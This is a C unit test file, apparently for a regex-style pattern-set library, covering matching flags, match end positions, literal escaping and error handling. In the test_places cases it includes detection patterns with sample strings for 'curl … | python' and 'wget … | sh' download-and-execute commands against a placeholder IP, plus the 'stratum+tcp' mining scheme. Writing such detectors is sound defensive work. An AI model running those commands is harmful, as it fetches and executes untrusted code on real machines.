#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <cmocka.h>

#include "base/patterns.h"

static void add_id(void *context, uint32_t id)
{
	*(uint32_t *)context |= 1u << id;
}

static void test_match(void **state)
{
	const struct pattern patterns[] = {
		{"abc", PATTERN_NOCASE, 0},
		{"\\Aabc\\z", 0, 1},
		{"^b$", PATTERN_MULTILINE, 2},
		{"a.b", 0, 3},
		{"a.b", PATTERN_DOTALL, 4},
		{"\\A\\z", 0, 5},
		{"x*", 0, 6},
	};
	static const struct {
		const char *text;
		uint32_t ids;
	} cases[] = {
		{"abc", 0x43}, {"xABCx", 0x41}, {"a\nb\n", 0x54}, {"abc\n", 0x41}, {"", 0x60},
	};
	struct pattern_set *set = NULL;
	struct pattern_scratch *scratch = NULL;

	assert_int_equal(pattern_set_new(patterns, 7, &set, NULL, NULL), 0);
	assert_int_equal(pattern_scratch_grow(&scratch, set), 0);
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		uint32_t found = 0;
		pattern_set_match(set, scratch, str_from(cases[i].text), add_id, &found);
		assert_int_equal(found, cases[i].ids);
	}
	pattern_scratch_free(scratch);
	pattern_set_free(set);
}

static void add_end(void *context, uint32_t id, size_t end)
{
	buf_printf(context, "%u:%zu ", id, end);
}

static void test_ends(void **state)
{
	const struct pattern patterns[] = {{"ab", PATTERN_EACH, 0}, {"ab", 0, 1}};
	CLEANUP(buf_fini) struct buf told = {0};
	struct pattern_set *set = NULL;
	struct pattern_scratch *scratch = NULL;
	int once = 0;

	assert_int_equal(pattern_set_new(patterns, 2, &set, NULL, NULL), 0);
	assert_int_equal(pattern_scratch_grow(&scratch, set), 0);
	pattern_set_match_ends(set, scratch, STR("ab abab"), add_end, &told);
	buf_add_byte(&told, '\0');
	assert_non_null(strstr(told.at, "0:2 "));
	assert_non_null(strstr(told.at, "0:5 "));
	assert_non_null(strstr(told.at, "0:7 "));
	for (const char *at = told.at; (at = strstr(at, "1:")); at++)
		once++;
	assert_int_equal(once, 1);
	pattern_scratch_free(scratch);
	pattern_set_free(set);
}

/* Wherever it stands in a text of whatever length; and nothing is found where it is not. */
static void test_places(void **state)
{
	enum { LONGEST = 300 };
	static const struct {
		const char *expression, *text;
	} cases[] = {
		{"4", "4"},
		{"\\x2e", "."},
		{"\\xc3\\xa9", "\xc3\xa9"},
		{"4.*", "4"},
		{"4..*5", "4x5"},
		{"4[^x]*5", "4yy5"},
		{"a.*b", "a is b"},
		{"(?:4|4y)", "4"},
		{"[4-6]", "5"},
		{"\\A.*4", "4"},
		{"curl.*\\|\\s*python", "curl http://192.0.2.1:8000/x 2>&1 | python"},
		{"wget.*sh", "wget http://192.0.2.1/x -O- | sh"},
		{"stratum\\x2btcp", "stratum+tcp"},
	};

	for (size_t i = 0; i < 2 * sizeof(cases) / sizeof(*cases); i++) {
		const struct str text = str_from(cases[i / 2].text);
		const struct pattern patterns[] = {
			{cases[i / 2].expression, PATTERN_DOTALL | (i % 2 ? PATTERN_NOCASE : 0), 0},
			{"qqq", 0, 1},
		};
		struct pattern_set *set = NULL;
		struct pattern_scratch *scratch = NULL;
		assert_int_equal(pattern_set_new(patterns, 1 + i % 2, &set, NULL, NULL), 0);
		assert_int_equal(pattern_scratch_grow(&scratch, set), 0);
		for (size_t len = 0; len < LONGEST; len++)
			for (size_t at = 0; at + text.len <= len || at == 0; at++) {
				char around[LONGEST];
				uint32_t found = 0;
				const bool is_there = at + text.len <= len;
				memset(around, 'z', len);
				if (is_there)
					memcpy(around + at, text.at, text.len);
				pattern_set_match(set, scratch, str_of(around, len), add_id,
						  &found);
				if (found != is_there)
					fail_msg("%s at %zu of %zu: %u", patterns[0].expression, at,
						 len, found);
			}
		pattern_scratch_free(scratch);
		pattern_set_free(set);
	}
}

/* Each byte of a literal stands for itself. */
static void test_literal(void **state)
{
	CLEANUP(buf_fini) struct buf expression = {0};
	struct pattern_set *set = NULL;
	struct pattern_scratch *scratch = NULL;
	uint32_t found = 0;
	char all[256];

	for (int i = 0; i < 256; i++)
		all[i] = (char)i;
	pattern_add_literal(&expression, str_of(all, sizeof(all)));
	buf_add_byte(&expression, '\0');
	const struct pattern pattern = {expression.at, PATTERN_DOTALL, 1};
	assert_int_equal(pattern_set_new(&pattern, 1, &set, NULL, NULL), 0);
	assert_int_equal(pattern_scratch_grow(&scratch, set), 0);
	pattern_set_match(set, scratch, str_of(all, sizeof(all)), add_id, &found);
	assert_int_equal(found, 2);
	found = 0;
	pattern_set_match(set, scratch, str_of(all, sizeof(all) - 1), add_id, &found);
	assert_int_equal(found, 0);
	pattern_scratch_free(scratch);
	pattern_set_free(set);
}

static void test_least(void **state)
{
	static const struct {
		struct pattern pattern;
		size_t least;
	} cases[] = {
		{{"abc", 0, 0}, 3},	{{"\\Aab.*c\\z", PATTERN_DOTALL, 0}, 3},
		{{"ab?|cde", 0, 0}, 1}, {{"x*", 0, 0}, 0},
		{{"(", 0, 0}, 0},
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++)
		assert_int_equal(pattern_least(&cases[i].pattern), cases[i].least);
}

static void test_refused(void **state)
{
	const struct pattern patterns[] = {{"good", 0, 0}, {"(?=x)y", 0, 1}};
	struct pattern_set *set = NULL;
	struct error why = {0};
	size_t wrong = 7;

	assert_int_equal(pattern_set_new(patterns, 2, &set, &wrong, &why), -EINVAL);
	assert_int_equal(wrong, 1);
	assert_true(why.text[0] != '\0');
	assert_null(set);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_match),  cmocka_unit_test(test_ends),
		cmocka_unit_test(test_places), cmocka_unit_test(test_literal),
		cmocka_unit_test(test_least),  cmocka_unit_test(test_refused),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
